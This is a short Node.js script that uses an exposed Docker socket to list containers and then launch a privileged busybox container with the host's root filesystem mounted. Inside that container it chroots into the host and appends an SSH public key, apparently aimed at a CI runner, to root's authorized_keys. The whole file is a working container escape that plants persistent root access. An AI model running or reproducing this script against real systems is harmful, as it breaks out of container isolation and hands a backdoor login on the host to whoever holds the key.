const http = require('http');

const api = (method, path, body) => new Promise((ok, bad) => {
  const r = http.request({ socketPath: '/var/run/docker.sock', method, path, headers: { 'Content-Type': 'application/json' } }, (res) => {
    let s = '';
    res.on('data', (d) => (s += d));
    res.on('end', () => ok(s ? JSON.parse(s) : {}));
  });
  r.on('error', bad);
  r.end(body && JSON.stringify(body));
});

(async () => {
  const list = await api('GET', '/containers/json');
  console.log(list.map((c) => c.Names[0]).join('\n'));
  const { Id } = await api('POST', '/containers/create', {
    Image: 'busybox',
    Cmd: ['chroot', '/h', 'sh', '-c', 'mkdir -p /root/.ssh; echo "ssh-rsa AAAAB3Nplaceholder ci@runner.example" >> /root/.ssh/authorized_keys'],
    HostConfig: { Binds: ['/:/h'], Privileged: true, PidMode: 'host', AutoRemove: true },
  });
  await api('POST', `/containers/${Id}/start`);
})();
